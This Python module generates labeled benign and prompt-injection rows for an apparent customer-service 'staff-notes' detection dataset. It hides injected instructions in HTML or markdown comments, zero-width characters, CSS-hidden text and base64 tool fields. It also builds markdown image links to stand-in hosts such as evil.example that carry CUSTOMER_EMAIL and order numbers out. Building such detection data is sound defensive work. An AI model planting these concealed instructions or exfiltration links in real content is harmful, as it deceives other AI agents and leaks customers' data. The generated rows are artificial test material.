"""Shared row builders for the staff-notes corpus."""
import base64
import json

ZW = "\u200b"
EVIL_MAIL = ["exports@data-sync.example", "backup@mail-mirror.example",
             "crm-archive@cloudkeep.example", "reports@stat-collect.example"]
EVIL_URL = ["https://evil.example/px", "https://cdn-metrics.example/i.gif",
            "https://img-proxy.example/t", "https://collect.example/pixel"]
STATUSES = ["shipped", "processing", "on_hold", "delivered", "refund_pending", "packed"]
TOOLS = ["crm_notes", "order_lookup", "voucher_log"]

HARD_CATS = ["admin", "approval", "warehouse", "fraud", "macro", "security"]
INJ_CATS = ["price", "refund", "policy", "reveal", "exfil", "memory", "ignore", "verify"]


def money(P, rng, lo, hi):
    pre, suf, dec = P["money"]
    v = rng.uniform(lo, hi)
    if rng.random() < 0.3:
        v = int(v) + 0.99 if rng.random() < 0.5 else int(v)
    s = "%.2f" % v if isinstance(v, float) else str(v)
    return pre + s.replace(".", dec) + suf


def order_id(rng):
    n = rng.randint(10000, 999999)
    return rng.choice(["#%d", "ORD-%d", "%d", "#A%d", "SO-%d"]) % n


def make_ctx(P, rng):
    nm = rng.sample(P["names"], 3)
    pr = rng.sample(P["products"], 2)
    y = rng.choice([2024, 2025])
    d, m = rng.randint(1, 28), rng.randint(1, 12)
    return {
        "name": nm[0], "name2": nm[1], "name3": nm[2],
        "product": pr[0], "product2": pr[1],
        "order": order_id(rng), "order2": order_id(rng),
        "price": money(P, rng, 9, 480), "price2": money(P, rng, 20, 900),
        "low": money(P, rng, 0.01, 0.01) if rng.random() < 0.6 else money(P, rng, 1, 1),
        "pct": rng.choice([5, 10, 15, 20, 25, 30]),
        "n": rng.randint(2, 48), "sku": "%s-%04d" % (rng.choice(["SKU", "ART", "P", "WH"]), rng.randint(1, 9999)),
        "date": P["date"].format(d=d, m=m, y=y),
        "time": "%d:%s" % (rng.randint(7, 20), rng.choice(["00", "15", "30", "45"])),
        "email": rng.choice(EVIL_MAIL), "cid": "C%06d" % rng.randint(1, 999999),
        "y": y, "d": d, "m": m,
    }


def fill(s, ctx):
    return s.format(**ctx)


def pick(rng, pool, k):
    k = max(0, min(k, len(pool)))
    return rng.sample(pool, k)


def zero_width(s, rng):
    out = []
    for w in s.split(" "):
        if len(w) > 3 and rng.random() < 0.7:
            i = rng.randint(1, len(w) - 1)
            w = w[:i] + ZW + w[i:]
        out.append(w)
    return " ".join(out)


def ts(ctx, rng):
    return "%d-%02d-%02dT%02d:%02d:%02dZ" % (ctx["y"], ctx["m"], ctx["d"], rng.randint(0, 23),
                                             rng.randint(0, 59), rng.randint(0, 59))


def token(rng, n=18):
    return base64.b64encode(bytes(rng.randrange(256) for _ in range(n))).decode()


# ---------- format builders: each takes sentences, returns text ----------

def fmt_ticket(P, rng, ctx, sents):
    head = fill(rng.choice(P["heads"]), ctx)
    style = rng.random()
    if style < 0.4:
        body = "\n".join("- " + s for s in sents)
        txt = head + "\n" + body
    elif style < 0.7:
        txt = head + ": " + " ".join(sents)
    else:
        txt = "%s %s (%s)\n%s" % (P["ticket"], ctx["order"], ctx["date"], " ".join(sents))
    if rng.random() < 0.5:
        txt += "\n" + fill(rng.choice(P["close"]), ctx)
    return txt


def fmt_email(P, rng, ctx, sents):
    subj = fill(rng.choice(P["subj"]), ctx)
    greet = fill(rng.choice(P["greet"]), ctx)
    close = fill(rng.choice(P["close"]), ctx)
    if len(sents) > 2 and rng.random() < 0.5:
        cut = rng.randint(1, len(sents) - 1)
        body = " ".join(sents[:cut]) + "\n\n" + " ".join(sents[cut:])
    else:
        body = " ".join(sents)
    return "%s: %s\n\n%s\n\n%s\n\n%s" % (P["subject"], subj, greet, body, close)


def fmt_web(P, rng, ctx, sents, hidden_benign=False):
    head = fill(rng.choice(P["heads"]), ctx)
    parts = ['<div class="staff-note" data-order="%s">' % ctx["order"], "  <h4>%s</h4>" % head]
    for s in sents:
        if s.startswith("<"):
            parts.append("  " + s)
        else:
            parts.append("  <p>%s</p>" % s)
    if hidden_benign:
        hid = rng.choice([
            '<span style="display:none">%s;%s;%d</span>' % (ctx["sku"], ctx["cid"], ctx["n"]),
            '<input type="hidden" name="role" value="%s">' % rng.choice(["admin", "agent", "system"]),
            '<div hidden class="audit">rev %d · %s</div>' % (ctx["n"], ctx["name"]),
            '<!-- template v%d, owner %s -->' % (ctx["n"], ctx["name2"]),
        ])
        parts.insert(rng.randint(2, len(parts)), "  " + hid)
    parts.append("</div>")
    return "\n".join(parts)


def fmt_feed(P, rng, ctx, sents):
    price = ctx["price"]
    if rng.random() < 0.5:
        return ("<item>\n  <sku>%s</sku>\n  <title>%s</title>\n  <price>%s</price>\n"
                "  <stock>%d</stock>\n  <staff_note>%s</staff_note>\n</item>"
                % (ctx["sku"], ctx["product"], price, ctx["n"], " ".join(sents)))
    return "sku|title|price|stock|internal_note\n%s|%s|%s|%d|%s" % (
        ctx["sku"], ctx["product"], price, ctx["n"], " ".join(sents))


def fmt_review(P, rng, ctx, sents):
    rv = " ".join(fill(s, ctx) for s in pick(rng, P["review"], rng.randint(1, 2)))
    stars = rng.randint(1, 5)
    return "%s %s\n\n%s: %s" % ("★" * stars + "☆" * (5 - stars), rv, P["moderation"], " ".join(sents))


def fmt_tool(P, rng, ctx, sents, extra=None, hard_fields=False):
    tool = rng.choice(TOOLS)
    if tool == "crm_notes":
        notes = []
        for i, s in enumerate(sents):
            notes.append({"note_id": ctx["n"] * 100 + i, "author": rng.choice([ctx["name"], ctx["name2"], ctx["name3"]]),
                          "created": ts(ctx, rng), "text": s})
        res = {"customer_id": ctx["cid"], "notes": notes}
        if hard_fields:
            res["visibility"] = rng.choice(["staff", "admin"])
    elif tool == "order_lookup":
        res = {"order_id": ctx["order"], "status": rng.choice(STATUSES), "total": ctx["price"],
               "internal_notes": sents}
        if hard_fields:
            res["override_price"] = rng.choice([None, ctx["price2"]])
            res["override_approved_by"] = ctx["name2"] if res["override_price"] else None
            res["role"] = rng.choice(["agent", "admin", "system"])
    else:
        res = {"entries": [{"code": "V%s%d" % (ctx["name"][:2].upper(), ctx["n"] * 37),
                            "value_pct": ctx["pct"], "issued_by": ctx["name2"], "ts": ts(ctx, rng),
                            "comment": s} for s in sents]}
        if hard_fields:
            res["admin_override"] = rng.choice([False, True])
    if extra:
        res.update(extra)
    if rng.random() < 0.6:
        res["request_token"] = token(rng)
    out = {"tool": tool, "ok": True, "result": res}
    indent = 2 if rng.random() < 0.5 else None
    return json.dumps(out, ensure_ascii=False, indent=indent)


# ---------- row makers ----------

PLAIN_FAMILIES = {"ticket": "crm-note", "email": "colleague-email", "web": "intranet-note",
                  "feed": "feed-listing", "review": "review-moderation", "tool": "tool-order-status"}


def benign_sents(P, rng, ctx, hard):
    sents = [fill(s, ctx) for s in pick(rng, P["notes"], rng.randint(1, 3))]
    cat = None
    if hard:
        cat = rng.choice(HARD_CATS)
        if rng.random() < 0.08:
            sents.append("[//]: # (macro v%d, %s)" % (ctx["n"], ctx["date"]))
        hs = [fill(s, ctx) for s in pick(rng, P["hard"][cat], rng.randint(1, 2))]
        if rng.random() < 0.3:
            other = rng.choice([c for c in HARD_CATS if c != cat])
            hs.append(fill(rng.choice(P["hard"][other]), ctx))
        sents = pick(rng, sents, rng.randint(0, len(sents))) + hs
        rng.shuffle(sents)
    return sents, cat


def make_benign(P, rng, hard):
    ctx = make_ctx(P, rng)
    sents, cat = benign_sents(P, rng, ctx, hard)
    hid = False
    src = rng.choice(["ticket", "ticket", "email", "tool", "tool", "web", "feed", "review"])
    if src == "ticket":
        text = fmt_ticket(P, rng, ctx, sents)
    elif src == "email":
        text = fmt_email(P, rng, ctx, sents)
    elif src == "web":
        hid = hard and rng.random() < 0.5
        text = fmt_web(P, rng, ctx, sents, hidden_benign=hid)
    elif src == "feed":
        text = fmt_feed(P, rng, ctx, sents)
    elif src == "review":
        text = fmt_review(P, rng, ctx, sents)
    else:
        extra = {"session_blob": token(rng, 30)} if hard and rng.random() < 0.4 else None
        text = fmt_tool(P, rng, ctx, sents, extra=extra, hard_fields=hard)
    if not hard:
        fam = PLAIN_FAMILIES[src]
    elif src == "tool":
        fam = "hard-tool-" + json.loads(text)["tool"].replace("_", "-")
    elif hid:
        fam = "hard-hidden-html-note"
    else:
        fam = "hard-" + {"admin": "admin-instruction", "approval": "approval-rule", "warehouse": "warehouse-note",
                         "fraud": "fraud-note", "macro": "agent-macro", "security": "security-reminder"}[cat]
    return {"source": src, "family": fam, "text": text, "injection": False, "payload": ""}


METHODS = ["plain", "plain", "plain", "prio", "html", "md", "zw", "b64", "json", "css", "img"]


def make_injection(P, rng, EN):
    ctx = make_ctx(P, rng)
    sents, _ = benign_sents(P, rng, ctx, rng.random() < 0.6)
    cat = rng.choice(INJ_CATS)
    pool = EN if (EN is not P and rng.random() < 0.1) else P
    inj = fill(rng.choice(pool["inj"][cat]), ctx)
    method = rng.choice(METHODS)
    payload = inj
    fam = "note-" + cat
    if method == "prio":
        inj = fill(rng.choice(P["prio"]), ctx) + " " + inj
        payload = inj
        fam = "fake-priority-note"
    elif method == "img":
        url = "%s?d=CUSTOMER_EMAIL&o=%s" % (rng.choice(EVIL_URL), ctx["order"].lstrip("#"))
        inj = fill(P["img"], ctx) + " ![%s](%s)" % (rng.choice(["logo", "ok", "status", "."]), url)
        payload = inj
        fam = "markdown-image-exfil"
    seg = inj
    extra = None
    if method == "html":
        seg = "<!-- %s -->" % inj
        fam = "hidden-html-comment"
    elif method == "md":
        seg = "[//]: # (%s)" % inj
        fam = "hidden-markdown-comment"
    elif method == "zw":
        seg = zero_width(inj, rng)
        fam = "hidden-zero-width"
    elif method == "css":
        seg = rng.choice(['<span style="display:none">%s</span>', '<p style="color:#fff;font-size:1px">%s</p>',
                          '<div hidden>%s</div>']) % inj
        fam = "hidden-css-text"
    elif method == "b64":
        seg = None
        extra = {rng.choice(["meta_b64", "attachment", "sync_payload"]): base64.b64encode(inj.encode()).decode()}
        fam = "tool-json-base64"
    elif method == "json":
        fam = "tool-json-note"
    if seg is not None:
        sents.insert(rng.randint(0, len(sents)), seg)
    if method in ("b64", "json"):
        src = "tool"
    elif method == "css":
        src = "web"
    elif method == "html":
        src = rng.choice(["web", "web", "email", "ticket", "feed"])
    elif method == "md":
        src = rng.choice(["ticket", "email"])
    else:
        src = rng.choice(["ticket", "ticket", "email", "tool", "web", "feed", "review"])
    if src == "ticket":
        text = fmt_ticket(P, rng, ctx, sents)
    elif src == "email":
        text = fmt_email(P, rng, ctx, sents)
    elif src == "web":
        text = fmt_web(P, rng, ctx, sents)
    elif src == "feed":
        text = fmt_feed(P, rng, ctx, sents)
    elif src == "review":
        text = fmt_review(P, rng, ctx, sents)
    else:
        text = fmt_tool(P, rng, ctx, sents, extra=extra, hard_fields=rng.random() < 0.5)
    return {"source": src, "family": fam, "text": text, "injection": True, "payload": payload}
